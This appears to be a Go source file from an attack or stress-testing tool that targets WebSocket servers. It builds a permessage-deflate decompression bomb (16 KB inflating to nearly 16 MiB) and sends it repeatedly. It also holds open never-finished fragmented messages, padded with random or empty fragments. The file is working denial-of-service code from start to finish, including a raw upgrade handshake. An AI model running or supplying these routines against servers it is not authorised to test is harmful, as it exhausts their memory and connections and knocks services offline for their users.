package attack

import (
	"bufio"
	"bytes"
	"context"
	"crypto/rand"
	"encoding/binary"
	"fmt"
	"net"
	"net/http"
	"sync"
	"time"

	"github.com/klauspost/compress/flate"
)

const (
	// inflated is nearly the limit of a message, 16 MiB.
	inflated = 16<<20 - 1<<10
	// fragmentPause is the time between two empty fragments.
	fragmentPause = 100 * time.Millisecond
)

// The first byte of a frame, RFC 6455 section 5.2; RSV1 says that a message is
// deflated (RFC 7692 section 6).
const (
	final        = 0x80
	deflated     = 0x40
	binaryFrame  = 0x2
	continuation = 0x0
)

// bomb is the payload: 16 KB that inflate to nearly 16 MiB.
var bomb = sync.OnceValues(func() ([]byte, error) {
	var out bytes.Buffer
	w, err := flate.NewWriter(&out, flate.BestCompression)
	if err != nil {
		return nil, err
	}
	if _, err := w.Write(make([]byte, inflated)); err != nil {
		return nil, err
	}
	if err := w.Flush(); err != nil {
		return nil, err
	}
	// RFC 7692 section 7.2.1: without the end of the flush.
	return bytes.TrimSuffix(out.Bytes(), []byte{0, 0, 0xff, 0xff}), nil
})

// inflate sends the same small message again and again, as fast as it is taken.
// Echoes are not read.
func inflate(ctx context.Context, p Plan, i int, opened func()) error {
	c, err := openSocket(ctx, p, i)
	if err != nil {
		return err
	}
	defer c.Close()
	message, err := bombFrame(final | deflated | binaryFrame)
	if err != nil {
		return err
	}
	opened()
	for {
		if _, err := c.Write(message); err != nil {
			return err
		}
	}
}

// inflateOpen sends such a message without its end, and then empty fragments.
func inflateOpen(ctx context.Context, p Plan, i int, opened func()) error {
	c, err := openSocket(ctx, p, i)
	if err != nil {
		return err
	}
	defer c.Close()
	first, err := bombFrame(deflated | binaryFrame)
	if err != nil {
		return err
	}
	opened()
	for next := first; ; next = frame(continuation, nil) {
		if _, err := c.Write(next); err != nil {
			return err
		}
		if !pause(ctx, fragmentPause) {
			return ctx.Err()
		}
	}
}

// unfinished sends almost all that a message may have, in fragments of incompressible
// bytes, and then empty ones.
func unfinished(ctx context.Context, p Plan, i int, opened func()) error {
	c, err := openSocket(ctx, p, i)
	if err != nil {
		return err
	}
	defer c.Close()
	piece := make([]byte, 32<<10)
	_, _ = rand.Read(piece)
	opened()
	head := byte(binaryFrame)
	for range inflated / len(piece) {
		if _, err := c.Write(frame(head, piece)); err != nil {
			return err
		}
		head = continuation
	}
	for pause(ctx, fragmentPause) {
		if _, err := c.Write(frame(continuation, nil)); err != nil {
			return err
		}
	}
	return ctx.Err()
}

// bombFrame is the payload as a frame.
func bombFrame(head byte) ([]byte, error) {
	payload, err := bomb()
	return frame(head, payload), err
}

// frame makes a client's frame. Its mask is 0, which leaves the payload as it is.
func frame(head byte, payload []byte) []byte {
	const masked, extended = 0x80, 126
	b := []byte{head}
	if n := len(payload); n < extended {
		b = append(b, masked|byte(n))
	} else {
		b = binary.BigEndian.AppendUint16(append(b, masked|extended), uint16(n))
	}
	return append(append(b, 0, 0, 0, 0), payload...)
}

// openSocket opens a WebSocket that may be deflated.
func openSocket(ctx context.Context, p Plan, i int) (*net.TCPConn, error) {
	c, err := dial(ctx, p, i, stalledBuffer)
	if err != nil {
		return nil, err
	}
	if _, err := fmt.Fprintf(c, "GET %s HTTP/1.1\r\nHost: %s\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n"+
		"Sec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n"+
		"Sec-WebSocket-Extensions: permessage-deflate\r\n\r\n", p.Path, p.Address); err != nil {
		c.Close()
		return nil, err
	}
	resp, err := http.ReadResponse(bufio.NewReader(c), nil)
	if err != nil {
		c.Close()
		return nil, err
	}
	_ = resp.Body.Close() // there is none
	if resp.StatusCode != http.StatusSwitchingProtocols || resp.Header.Get("Sec-WebSocket-Extensions") == "" {
		c.Close()
		return nil, fmt.Errorf("no deflated WebSocket: %s", resp.Status)
	}
	return c, nil
}
